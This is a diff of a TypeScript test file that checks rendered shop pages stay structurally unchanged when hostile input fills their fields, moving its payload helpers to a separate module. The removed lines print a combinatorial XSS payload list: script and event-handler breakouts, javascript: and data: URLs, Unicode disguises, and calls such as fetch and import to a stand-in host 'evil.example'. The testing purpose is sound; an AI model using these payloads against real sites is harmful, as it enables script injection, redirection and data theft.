@@ -3,6 +3,11 @@ import { beforeAll, describe, expect, it } from 'vitest'
 import type { CheckoutAnswer } from '#contract/calls/product.ts'
 import type { Page } from '#contract/page.ts'
 import { accentStyle } from '#rules/accent.ts'
+import {
+  hostilePayload as payload,
+  HOSTILE_PAYLOADS as PAYLOADS,
+  skeleton,
+} from '#rules/hostile-payloads.test-double.ts'
 import { LOCALES, type Locale } from '#rules/locale.ts'
 import { ALL_TEXTS } from '#texts/all.ts'
 import { SELLER_PAGE } from '#texts/seller-page.ts'
@@ -118,65 +123,8 @@ const successPage = (word: (place: number) => string, locale: Locale) =>
     locale,
   )
 
-/**
- * What a document is made of, without what stands between tags or is the value of an attribute. React asks early for
- * pictures, but for none whose address holds its data.
- */
-const skeleton = (html: string): string =>
-  (
-    html
-      .replace(/<link rel="preload" as="image"( (href|imageSrcSet|imageSizes|type)="[^"]*")+\/>/g, '')
-      .match(/<[^>]*>/g) ?? []
-  )
-    .map((tag) => tag.replace(/"[^"]*"/g, '""'))
-    .join('\n')
-
-const RUNS = [
-  'alert(1)',
-  'fetch("//evil.example")',
-  'location="//evil.example"',
-  'import("//evil.example/x.js")',
-]
-const WRAPS: readonly ((run: string) => string)[] = [
-  (run) => `<script>${run}</script>`,
-  (run) => `</script><script>${run}</script>`,
-  (run) => `<!--<script>${run}//-->`,
-  (run) => `"><script>${run}</script>`,
-  (run) => `'><img src=x onerror=${run}>`,
-  (run) => `" onerror="${run}`,
-  (run) => `' onload='${run}`,
-  (run) => `" onfocus=${run} autofocus x="`,
-  (run) => `javascript:${run}`,
-  (run) => `JaVa\tScRiPt:${run}`,
-  (run) => `data:text/html,<script>${run}</script>`,
-  (run) => `<svg/onload=${run}>`,
-  (run) => `<svg><script>${run}</script></svg>`,
-  (run) => `</style><script>${run}</script>`,
-  (run) => `</title><script>${run}</script>`,
-  (run) => `</textarea><script>${run}</script>`,
-  (run) => `</noscript><script>${run}</script>`,
-  (run) => `</template><script>${run}</script>`,
-  (run) => `<iframe srcdoc="<script>${run}</script>">`,
-  (run) => `<base href="//evil.example/"><script>${run}</script>`,
-  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
-  (run) => `<form action="javascript:${run}"><button>`,
-  (run) => `<a href="javascript:${run}">x</a>`,
-  (run) => `<object data="javascript:${run}">`,
-  (run) => `<details open ontoggle=${run}>`,
-]
-const DISGUISES: readonly ((text: string) => string)[] = [
-  (text) => text,
-  (text) => text.toUpperCase(),
-  (text) => `\u202E${text}`,
-  (text) => `${text}\u2028`,
-  (text) => `${text.replaceAll('<', '<\u200B<')}\u200B`,
-]
-const PAYLOADS = RUNS.flatMap((run) =>
-  WRAPS.flatMap((wrap) => DISGUISES.map((disguise) => disguise(wrap(run)))),
-)
 /** Every payload stands somewhere on some page; with HOSTILE=all each stands in every field. */
 const STEP = process.env['HOSTILE'] === 'all' ? 1 : 10
-const payload = (place: number): string => PAYLOADS[place % PAYLOADS.length] ?? ''
 
 beforeAll(async () => {
   for (const locale of LOCALES) {
